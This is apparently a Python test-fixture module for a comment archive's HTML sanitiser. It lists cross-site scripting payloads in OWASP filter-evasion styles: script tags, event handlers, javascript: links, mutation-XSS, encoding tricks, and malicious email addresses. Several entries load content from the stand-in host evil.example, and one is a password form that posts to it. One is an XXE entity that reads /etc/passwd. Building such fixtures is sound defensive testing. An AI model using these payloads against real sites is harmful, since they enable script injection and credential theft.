"""What visitors type who want a script of theirs to run in somebody's browser.

Each calls ``hit()``, or fetches something of another host, if it is taken for more than text. The
kinds are those of OWASP's filter evasion list; the words are ours. What the sanitiser is tested by
(tests/comment_archive/hostile.py) is added to them.
"""

from __future__ import annotations

from tests.comment_archive.hostile import HOSTILE

E = "https://evil.example"
SCRIPTS = [
    "<script>hit()</script>",
    "<ScRiPt\x0c>hit()</sCrIpT\x0b>",
    f"<script src={E}/1.js></script>",
    f"<script/src={E}/2.js>",
    "<script type=module>hit()</script>",
    "<script>hit()<!--",
    "<<script>script>hit()<</script>/script>",
    "<script\ndefer\n>hit()</script\n>",
    "</script><script>hit()</script>",
    '"}]}</script><script>hit()</script><script type="application/ld+json">{"a":"',
    '\\"}</SCRIPT ><svg/onload=hit()>',
    "</textarea></title></style><script>hit()</script>",
    "<!--><script>hit()</script>-->",
    "<!-- --!><img src onerror=hit()> -->",
    "<![CDATA[><script>hit()</script>]]>",
    "]]></content></entry><script xmlns='http://www.w3.org/1999/xhtml'>hit()</script>",
    "<?xml-stylesheet type='text/xsl' href='data:,x'?><x:script xmlns:x="
    "'http://www.w3.org/1999/xhtml'>hit()</x:script>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;<script>hit()</script>",
]
HANDLERS = [
    "<img src=x onerror=hit()>",
    "<img src=x:x onerror\t=\thit()>",
    "<img/src/onerror=hit()>",
    "<img src='a`b' onerror=`hit()`>",
    '<img """><script>hit()</script>">',
    "<image src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg/onload=&#104;it()>",
    "<body onload=hit() onpageshow=hit()>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()><option>x",
    "<textarea autofocus onfocus=hit()>",
    "<button autofocus onfocus=hit()>x</button>",
    "<details open ontoggle=hit()><summary>x",
    "<video src=x onerror=hit()></video>",
    "<video><source onerror=hit()>",
    "<audio src onerror=hit()>",
    "<object data=x: onerror=hit()>",
    "<iframe src=about:blank onload=hit()>",
    "<marquee onstart=hit()>x</marquee>",
    "<style onload=hit()>*{}</style>",
    "<link rel=stylesheet href=data:, onload=hit()>",
    "<div style=animation-name:x onanimationstart=hit()>x</div><style>@keyframes x{}</style>",
    "<p onbeforematch=hit() hidden=until-found>x",
    "<xss contenteditable autofocus onfocus=hit() tabindex=1>x",
    "' autofocus onfocus='hit()' x='",
    '" autofocus onfocus="hit()" x="',
    "`autofocus onfocus=hit()`",
    "x onmouseover=hit() style=position:fixed;inset:0",
]
FRAMES = [
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:hit()></iframe>",
    f"<iframe src={E}/frame></iframe>",
    "<object data='data:text/html,<script>parent.hit()</script>'></object>",
    "<embed src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=hit()>'>",
    "<base href=javascript:/hit()//>",
    f"<base href={E}/>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    f"<meta http-equiv=refresh content='0;url={E}/gone'>",
    "<meta http-equiv=content-security-policy content='script-src *'>",
    f"<link rel=prefetch href={E}/3><link rel=stylesheet href={E}/4.css>",
    f"<style>@import '{E}/5.css'; body{{background:url({E}/6.png)}}</style>",
    f"<table background={E}/7.png><td background={E}/8.png>x",
    f"<img src={E}/9.png srcset='{E}/10.png 2x' loading=eager>",
    f"<video poster={E}/11.png></video><audio src={E}/12.mp3 preload=auto></audio>",
    f"<form action={E}/13><input name=password type=password><button>登录</button></form>",
    f"<button formaction={E}/14 form=search>x</button>",
    f"![x]({E}/15.png) ![y](javascript:hit())",
]
LINKS = [
    "[x](javascript:hit())",
    "[x](&#x6A&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58hit())",
    "[x](\x01\x02javascript:hit())",
    "[x](java\r\nscript:hit())",
    "[x](javascript&colon;hit&lpar;&rpar;)",
    "[x](data:text/html,<script>hit()</script>)",
    "<javascript:hit()>",
    '<https://e.example/" autofocus onfocus=hit() x=">',
    "[x](https://e.example/'onfocus='hit()'autofocus='<b>)",
    "[x]: javascript:hit()\n\n[x]",
    "<a href=jav&#x09;ascript:hit()>x</a>",
    "<a href=' &#14; javascript:hit()'>x</a>",
    "<a xlink:href=javascript:hit()>x</a>",
    "<svg><a xlink:href=javascript:hit()><text y=20>x</text></a></svg>",
    "<math href=javascript:hit()>x</math>",
    "javascript:hit() https://e.example/javascript:hit()",
]
MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;&lt;img onerror=hit()&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<svg></p><style><g title='</style><img src onerror=hit()>'>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<svg><desc><template><![CDATA[</desc><img src onerror=hit()>]]></template>",
    "<math><annotation-xml encoding=text/html><style><img title='</style><img src onerror=hit()>'>",
    "<select><iframe></select><img src onerror=hit()>",
    "<xmp><p title='</xmp><img src onerror=hit()>'>",
    "<p><svg><style><!--</style></svg><img title='--><img src onerror=hit()>'>",
    "<table><td><svg><foreignObject><table><tr></svg><img src onerror=hit()>",
    "<title><a title='</title><img src onerror=hit()>'>",
    "<listing>&lt;img src onerror=hit()&gt;</listing>",
]
SIGNS = [
    "a\x00<scr\x00ipt>hit()</scr\x00ipt>",
    "\u202e>(/)tih=rorreno crs gmi<\u202c <img src onerror=hit()>",
    "\u2066<img src onerror=hit()>\u2069",
    "＜img src onerror=hit()＞ ‹script›hit()‹/script›",
    "+ADw-img src onerror+AD0-hit()+AD4-",
    "\u3008script\u3009 %3Cimg%20src%20onerror=hit()%3E \\u003csvg onload=hit()\\u003e",
    "&lt;img src onerror=hit()&gt; &amp;lt;img src onerror=hit()&amp;gt;",
    "&#60;img src onerror=hit()&#62; &#x3c;svg/onload=hit()&#x3e",
    "\ufeff<\u200bscript>hit()</script>\u2028hit()\u2029",
    "{{constructor.constructor('hit()')()}} {{ hit() }} {% raw %} ${hit()} #{hit()}",
    "<!--/slot thread:first--><img src onerror=hit()><!--slot thread:first-->",
    "@@text@@<img src onerror=hit()>@@author@@",
]
OURS = [*SCRIPTS, *HANDLERS, *FRAMES, *LINKS, *MUTATIONS, *SIGNS]


def _of_sanitiser():
    """Give the sanitiser's texts that can be sent as UTF-8 and are no mere length."""
    for row in HOSTILE:
        text = row.values[0]
        if text.strip() and len(text) < 400 and not any("\ud800" <= c <= "\udfff" for c in text):
            yield text.replace("alert(1)", "hit()")


TEXTS = [*OURS, *_of_sanitiser()]
NAMES = [text for text in OURS if len(text) <= 40 and "\n" not in text and "\x00" not in text]
EMAILS = [
    "<svg/onload=hit()>@e.example",
    '"><img/src/onerror=hit()>@e.example',
    "a@e.example<script>hit()</script>.org",
    "javascript:hit()//@e.example",
    "a@e.example\u202e<script>",
]
"""Without blanks and with one at sign, as the form takes them."""


def parcels(texts, size=12):
    """Put several texts into one message, so that few pages show all of them."""
    return ["\n\n".join(texts[start : start + size]) for start in range(0, len(texts), size)]
